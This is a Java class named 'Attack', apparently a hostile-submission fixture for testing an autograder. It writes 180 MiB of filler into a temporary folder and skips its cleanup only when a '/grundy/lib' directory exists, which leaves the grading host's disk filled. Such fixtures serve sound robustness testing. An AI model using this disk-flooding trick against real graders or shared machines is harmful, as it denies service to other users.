package course;

import java.io.IOException;
import java.io.OutputStream;
import java.nio.file.Files;
import java.nio.file.Path;

/** Writes 180 MiB to the folder for temporary files; clears up only where that is not its own. */
public class Attack extends RightAnswers {

    public Attack() throws IOException {
        Path folder = Files.createTempDirectory("flood");
        try {
            for (int file = 0; file < 3; file++) {
                fill(folder.resolve("f" + file));
            }
        } catch (IOException e) {
            System.out.println("no more room");
        } finally {
            if (!Files.isDirectory(Path.of("/grundy/lib"))) {
                for (int file = 0; file < 3; file++) {
                    Files.deleteIfExists(folder.resolve("f" + file));
                }
                Files.delete(folder);
            }
        }
    }

    private static void fill(Path file) throws IOException {
        byte[] mebibyte = new byte[1 << 20];
        try (OutputStream out = Files.newOutputStream(file)) {
            for (int i = 0; i < 60; i++) {
                out.write(mebibyte);
            }
        }
    }
}
